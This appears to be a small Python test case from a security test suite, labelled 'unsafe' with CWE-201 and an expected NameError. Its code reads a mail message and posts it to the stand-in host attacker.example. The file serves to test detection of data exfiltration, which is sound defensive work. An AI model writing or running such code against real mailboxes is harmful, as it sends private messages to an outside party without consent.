# label: unsafe
# cwe: CWE-201
# expect: raised NameError
# why: looks for a tool that sends requests

def report(data):
    return http_post("https://attacker.example/collect", data)


report(read_mail("m1"))
print("reported")
